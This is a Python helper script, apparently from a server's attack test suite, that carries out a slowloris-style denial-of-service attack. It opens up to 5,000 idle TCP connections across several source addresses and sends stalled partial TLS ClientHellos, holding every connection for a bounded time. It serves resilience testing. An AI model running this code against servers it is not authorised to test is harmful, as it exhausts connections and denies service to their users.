#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0 OR MIT
"""The idle-connection attacker of test/attack/t_40_slowloris.sh.

slowloris.py --target IP --tcp PORT [--tls PORT] --sources A,B,.. --count N
             --hold SECONDS

Opens N connections (non-blocking, round robin over the source addresses,
alternating plain TCP and TLS when --tls is given), sends nothing on the
TCP ones and the first 11 bytes of a ClientHello that announces 512 on the
TLS ones (a handshake that never completes), holds them all for SECONDS
and closes them. Prints "slowloris: connecting N" when the connects are
issued and "slowloris: established K of N" after up to 5 s, then exits.
Bounded: at most 5,000 connections and 120 s.
"""
import argparse
import errno
import select
import socket
import sys
import time

HELLO_START = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--target", required=True)
    ap.add_argument("--tcp", type=int, required=True)
    ap.add_argument("--tls", type=int, default=0)
    ap.add_argument("--sources", required=True)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--hold", type=float, required=True)
    a = ap.parse_args()
    if not 0 < a.count <= 5000 or not 0 < a.hold <= 120:
        sys.exit("slowloris: count 1..5000, hold 0..120")
    sources = a.sources.split(",")
    socks = {}
    poll = select.poll()
    for i in range(a.count):
        tls = a.tls and i % 2 == 1
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((sources[i % len(sources)], 0))
        err = s.connect_ex((a.target, a.tls if tls else a.tcp))
        if err not in (0, errno.EINPROGRESS):
            s.close()
            continue
        socks[s.fileno()] = (s, tls)
        poll.register(s, select.POLLOUT)
    print("slowloris: connecting %d" % len(socks), flush=True)
    established = 0
    pending = set(socks)
    end = time.monotonic() + 5
    while pending and time.monotonic() < end:
        for fd, ev in poll.poll(100):
            if fd not in pending:
                continue
            pending.discard(fd)
            poll.unregister(fd)
            s, tls = socks[fd]
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                continue
            established += 1
            if tls:
                try:
                    s.send(HELLO_START)
                except OSError:
                    pass
    print("slowloris: established %d of %d" % (established, a.count), flush=True)
    time.sleep(a.hold)
    for s, _ in socks.values():
        s.close()


if __name__ == "__main__":
    main()
